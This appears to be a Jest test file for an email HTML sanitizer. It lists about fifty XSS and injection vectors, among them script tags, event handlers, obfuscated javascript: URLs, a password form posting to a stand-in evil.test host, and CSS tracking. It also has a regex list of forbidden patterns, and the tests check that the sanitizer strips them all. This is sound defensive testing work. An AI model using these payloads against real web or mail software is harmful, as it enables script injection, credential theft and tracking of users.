import { htmlToPlainText, sanitizeEmailHtml } from './email.html';

/** Hostile HTML as it arrives in mail: each must come out with nothing that runs, loads, submits or escapes. */
const VECTORS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://ok.test/a.png" onload="alert(1)">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<iframe src="https://evil.test"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.test/steal"><input name="password"><button>Log in</button></form>',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<link rel="stylesheet" href="https://evil.test/x.css">',
  '<style>body{background:url(https://evil.test/track)}</style>',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="background-image: url(https://tracker.test/p.gif)">x</div>',
  '<div style="behavior: url(x.htc)">x</div>',
  '<div style="-moz-binding: url(https://evil.test/x.xml#xss)">x</div>',
  '<div style="color: re\\d">x</div>',
  '<object data="https://evil.test/x.swf"></object>',
  '<embed src="https://evil.test/x.swf">',
  '<details open ontoggle=alert(1)>x</details>',
  '<input autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<img src="http://plain-http.test/pixel.gif">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img srcset="https://evil.test/a.png 1x" src="x">',
  '<img data-remote-src="javascript:alert(1)">',
  '<video poster="javascript:alert(1)"><source src="x"></video>',
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  '<a href="https://ok.test" target="_top" onclick="alert(1)">x</a>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<textarea><script>alert(1)</script></textarea>',
  '<template><script>alert(1)</script></template>',
  '<x onclick=alert(1)>x</x>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<isindex action="javascript:alert(1)">',
  '<p style="font-family: \'x\'; color: expression(alert(1))">x</p>',
];

/** What must never survive: markup that runs, loads, submits or re-bases. */
const FORBIDDEN = [
  /<script/i,
  /\son\w+\s*=/i,
  /javascript:/i,
  /vbscript:/i,
  /data:/i,
  /<iframe/i,
  /<form/i,
  /<input/i,
  /<button/i,
  /<base/i,
  /<meta/i,
  /<link/i,
  /<style/i,
  /<svg/i,
  /<math/i,
  /<object/i,
  /<embed/i,
  /<video/i,
  /expression\s*\(/i,
  /url\s*\(/i,
  /behavior/i,
  /binding/i,
  /srcset/i,
  /\ssrc="(?!cid:)/i,
  /http:\/\//i,
  /xlink/i,
];

describe('sanitizeEmailHtml', () => {
  it(`has at least 30 hostile vectors to try (${VECTORS.length})`, () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(30);
  });

  it.each(VECTORS.map((v, i) => [i + 1, v]))('vector %d comes out clean: %s', (_i, vector) => {
    const out = sanitizeEmailHtml(String(vector));
    for (const pattern of FORBIDDEN) expect({ vector, out, match: pattern.test(out) }).toEqual({ vector, out, match: false });
    // Clean output is a fixed point: sanitizing it again changes nothing (no mutation left to exploit).
    expect(sanitizeEmailHtml(out)).toBe(out);
  });

  it('keeps what a mail reads with: formatting, tables, safe inline styles, https links', () => {
    const html =
      '<div style="color: #333; font-family: Arial, sans-serif; padding: 4px 8px"><p><b>Hello</b> <a href="https://acme.test/x">link</a></p>' +
      '<table width="100%" cellpadding="0"><tr><td style="background-color: rgb(240, 240, 240)">cell</td></tr></table></div>';
    expect(sanitizeEmailHtml(html)).toBe(
      '<div style="color:#333;font-family:Arial, sans-serif;padding:4px 8px"><p><b>Hello</b> <a href="https://acme.test/x" rel="noopener noreferrer nofollow">link</a></p>' +
        '<table width="100%" cellpadding="0"><tr><td style="background-color:rgb(240, 240, 240)">cell</td></tr></table></div>',
    );
  });

  it('turns remote images into placeholders the dashboard loads on request, keeps cid: images, drops the rest', () => {
    expect(sanitizeEmailHtml('<img src="https://cdn.test/logo.png" alt="Logo" width="40">')).toBe(
      '<img alt="Logo" width="40" data-remote-src="https://cdn.test/logo.png" />',
    );
    expect(sanitizeEmailHtml('<img src="cid:part1.abc@mail">')).toBe('<img src="cid:part1.abc@mail" />');
    expect(sanitizeEmailHtml('<p>a<img src="http://tracker.test/p.gif">b</p>')).toBe('<p>ab</p>');
  });
});

describe('htmlToPlainText', () => {
  it('keeps lines and decodes entities', () => {
    expect(htmlToPlainText('<p>Hello &amp; welcome</p><p>Line<br>two &lt;3</p>')).toBe('Hello & welcome\nLine\ntwo <3');
  });
});
